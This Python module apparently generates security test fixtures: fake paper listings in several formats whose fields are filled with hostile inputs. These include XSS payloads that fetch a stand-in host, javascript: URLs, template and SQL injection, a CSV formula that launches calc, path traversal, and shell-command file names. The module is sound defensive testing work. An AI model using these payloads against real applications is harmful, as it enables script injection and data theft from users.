"""Dumps by people who mean harm: `write(folder)` makes a thousand papers in several formats.

Made by rule, so that all of it is the same each time: each paper has one payload for each field,
from lists that are as long as they need to be. `NEVER` is what no page may do or ask for.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from xml.sax.saxutils import escape

NEVER = "hostile.invalid"
_RUN = f"fetch('//{NEVER}/'+(window.harmed=1))"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}//",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=//{NEVER}/i.png>",
    f'"><svg onload={_RUN}>',
    f"' autofocus onfocus={_RUN} x='",
    f'" style="background:url(//{NEVER}/b)" onmouseover="{_RUN}',
    f"<style>@import url(//{NEVER}/s.css);</style>",
    f"<link rel=stylesheet href=//{NEVER}/l.css>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=//{NEVER}/></iframe>",
    f"<object data=//{NEVER}/o></object><embed src=//{NEVER}/e>",
    f"<meta http-equiv=refresh content='0;url=//{NEVER}/'>",
    f"<base href=//{NEVER}/>",
    f"<form action=//{NEVER}/><input name=a><button autofocus>x",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"&#60;script&#62;{_RUN}&#x3c;/script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<scr\u200bipt>{_RUN}</scr\u00adipt>",
    f"<\x00script>{_RUN}</\x00script>",
    f"<<script>script>{_RUN}<</script>/script>",
    f"$\\text{{<script>{_RUN}</script>}}$",
    f"\\href{{javascript:{_RUN}}}{{click}} \\url{{data:text/html,<script>{_RUN}</script>}}",
    f"\\textbf{{<img src=x onerror={_RUN}>}} {{\\em <b>}}",
    f"[click](javascript:{_RUN}) ![x](//{NEVER}/m.png) <javascript:{_RUN}>",
    f"https://x.example/\"onmouseover={_RUN} https://x.example/'><script>{_RUN}</script>",
    f'www.x.example" onclick="{_RUN} http://[::1]/<script>',
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> {{ page.__class__ }}",
    "\0{}\0 \0main\0 %s %(title)s {0} {page}",
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    f"x\r\nBcc: all@{NEVER}\r\n\r\n<b>y",
    "'; DROP TABLE papers; -- \\' \\\" \\u0022 \\x3cb\\x3e",
    '"""\'\'\'\ntitle = "x"\n[[alias]]\npath = "/etc"',
)
SHAPES = (
    "W" * 900,
    "\u202eright to left\u202c and \u2066never ended",
    "\u05d0\u05d1\u05d2 " * 60,
    "e" + "\u0301\u0316\u0489" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 80,
    "\u200b\u200d\ufeff\u2060" * 100 + "x",
    "\ufdfd" * 40 + "\U0001242b" * 20,
    "\u0430ttention is \u0430ll you n\u0435\u0435d",
    "$" * 300 + "\\frac{" * 120,
    "$x_{" * 200 + "}" * 200 + "$",
    "{" * 500 + "}" * 499,
    "*" * 400 + "_" * 400 + "`" * 400,
    "https://a.example/" + "a/" * 1_000,
    "http://" * 300,
    "a" * 40 + " " + "b-" * 900,
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\ud800 \udfff \uffff \ufdd0 \U0010ffff",
    "line\u2028line\u2029line\x85line\x0bline\x0cline",
    "&nbsp;&zwj;&rlm;&#0;&#xd800;&#x110000;&notanentity;&" + "amp;" * 50,
    "A title " * 400,
)
ADDRESSES = (
    "javascript:" + _RUN,
    "JaVaScRiPt&colon;" + _RUN,
    "java\nscript:" + _RUN,
    "\x01javascript:" + _RUN,
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    f"//{NEVER}/x",
    f"https://github.com@{NEVER}/x",
    f'https://x.example/" onclick="{_RUN}',
    "https://x.example/\r\nSet-Cookie: a=b",
    "https://x.example/" + "a" * 4_000,
    "http://[not an address",
    "https://\u0440\u0430\u0443pal.example/",
    "https://x.example/\u202egpj.exe",
    "blob:null/x", "about:blank", "ws://x.example", "",
)  # fmt: skip
NAMES = (
    "con", "NUL.html", "aux.", "..", "../../../etc/passwd", "/etc/passwd", "C:\\windows\\x",
    "a" * 400, "A.b", "a.B", "a%2e%2e%2fb", "a/./b", "a//b", ".hidden", "x.html", "index.html",
    "\u212aelvin", "kelvin", "\ufb01n", "fin", "e\u0301", "\u00e9", "x\x00y", "trailing.", "a b ",
    "$(id)", "`id`", ";id", "|id", "-rf", "~", "*", "?", "<x>", ":ads:$DATA", "\u202egpj",
)  # fmt: skip
_WORDS = (
    "Long inputs cost much. We propose a method for language models that reads them in pieces. "
)


def _one(number: int) -> dict[str, object]:
    """A paper: its title says its number, so that all of them are different."""
    payloads = (*SCRIPTS, *SHAPES)
    return {
        "title": f"{number} {payloads[number % len(payloads)]}",
        "summary": f"{_WORDS}{payloads[(number * 7 + 1) % len(payloads)]} " * (1 + number % 3),
        "names": [
            payloads[(number * 3 + at) % len(payloads)] for at in range((1, 2, 3, 60)[number % 4])
        ],
        "address": ADDRESSES[number % len(ADDRESSES)],
        # A third of them have it alone, so that several papers claim to be the same.
        "name": NAMES[number % len(NAMES)] + (f"-{number}" if number % 3 else ""),
        "payload": payloads[(number * 11 + 5) % len(payloads)],
    }


def _daily(papers: list[dict[str, object]], day: int) -> str:
    """Hugging Face's JSON; half of the papers with an identifier that is none."""
    return json.dumps(
        [
            {
                "paper": {
                    "id": f"2605.{number:05}" if number % 2 else one["name"],
                    "title": one["title"],
                    "summary": one["summary"],
                    "authors": [{"name": name} for name in one["names"]],
                    "publishedAt": f"2026-05-{day:02}T00:00:00.000Z",
                    "submittedOnDailyAt": f"2026-05-{day:02}T00:00:00.000Z",
                    "upvotes": (3, 10**30, -1, "9")[number % 4],
                    "githubRepo": one["address"],
                    "projectPage": one["address"],
                    "ai_keywords": [one["payload"]],
                    "submittedOnDailyBy": {"fullname": one["payload"]},
                },
                "publishedAt": f"2026-05-{day:02}T00:00:00.000Z",
                "title": one["title"],
            }
            for number, one in enumerate(papers, day * 1000)
        ]
    )


def _objects(papers: list[dict[str, object]]) -> str:
    return json.dumps(
        [
            {
                "title": one["title"],
                "abstract": one["summary"],
                "authors": one["names"],
                "url": one["address"],
                "pdf": one["address"],
                "code": one["address"],
                "doi": f"10.1234/{one['name']}",
                "venue": one["payload"],
                "keywords": [one["payload"]],
                "categories": [one["payload"], one["name"]],
                "date": "2026-05-10",
            }
            for one in papers
        ]
    )


def _bibtex(papers: list[dict[str, object]]) -> str:
    return "\n".join(
        f"@article{{k{number}, title = {{{one['title']}}}, abstract = {{{one['summary']}}},\n"
        f"author = {{{' and '.join(map(str, one['names']))}}}, url = {{{one['address']}}},\n"
        f"journal = {{{one['payload']}}}, doi = {{10.5555/{one['name']}}}, year = 2026}}\n"
        for number, one in enumerate(papers)
    )


def _table(papers: list[dict[str, object]]) -> str:
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["title", "authors", "abstract", "url", "doi", "venue", "date"])
    for one in papers:
        names = "; ".join(map(str, one["names"]))
        doi = f"10.7777/{one['name']}"
        rows.writerow([one["title"], names, one["summary"], one["address"], doi, one["payload"],
                       "2026-05-11"])  # fmt: skip
    return out.getvalue()


def _ris(papers: list[dict[str, object]]) -> str:
    def line(value: object) -> str:
        return " ".join(str(value).split())

    return "".join(
        f"TY  - JOUR\nTI  - {line(one['title'])}\nAB  - {line(one['summary'])}\n"
        + "".join(f"AU  - {line(name)}\n" for name in one["names"])  # type: ignore[attr-defined]
        + f"UR  - {line(one['address'])}\nT2  - {line(one['payload'])}\n"
        f"DO  - 10.9999/{line(one['name'])}\nDA  - 2026/05/12\nER  - \n\n"
        for one in papers
    )


def _atom(papers: list[dict[str, object]]) -> str:
    def text(value: object) -> str:
        kept = (c for c in str(value) if c in "\t\n" or (c >= " " and c.isprintable()))
        return escape("".join(kept), {'"': "&quot;"})

    entries = "".join(
        f"<entry><id>{text(one['name'])}-{number}</id>"
        f"<title type='html'>{text(one['title'])}</title>"
        f"<summary type='html'>{text(one['summary'])}</summary>"
        f'<link href="{text(one["address"])}"/><updated>2026-05-13T00:00:00Z</updated>'
        + "".join(f"<author><name>{text(name)}</name></author>" for name in one["names"])  # type: ignore[attr-defined]
        + f'<category term="{text(one["payload"])}"/></entry>'
        for number, one in enumerate(papers)
    )
    return (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>&lt;b&gt;</title><id>x</id>'
        f"<updated>2026-05-13T00:00:00Z</updated>{entries}</feed>"
    )


def _lines(papers: list[dict[str, object]]) -> str:
    def line(value: object) -> str:
        return " ".join(str(value).split()).replace("|", "\\|")

    return "# Papers\n\n## 2026-05-14\n\n" + "".join(
        f"- [{line(one['title'])}](https://arxiv.org/abs/2605.{number:05}). {line(one['payload'])}"
        f" [code]({line(one['address'])})\n"
        for number, one in enumerate(papers, 14_000)
    )


_SHARES = (300, 300, 300, 120, 120, 120, 60, 60)


def write(folder: Path) -> int:
    """Write the dumps, under names that mean harm as well; how many papers there are."""
    counter = iter(range(1_000_000))
    parts = [[_one(next(counter)) for _ in range(share)] for share in _SHARES]
    texts = {
        "2026-05-08 <img src=x onerror=alert(1)>.json": _daily(parts[0], 8),
        "2026-05-09 \u202enosj.exe.json": _daily(parts[1], 9),
        '"><script>alert(1)<\u2044script>.json': _objects(parts[2]),
        "-rf; $(id).bib": _bibtex(parts[3]),
        "{{ 7*7 }}.csv": _table(parts[4]),
        "\x1b[31m\x07.ris": _ris(parts[5]),
        "&lt;b&gt;.xml": _atom(parts[6]),
        "CON .md": _lines(parts[7]),
    }
    for number, (name, text) in enumerate(texts.items()):
        data = text.encode(errors="replace" if number % 2 else "surrogatepass")
        (folder / name).write_bytes(data)
    return sum(_SHARES)
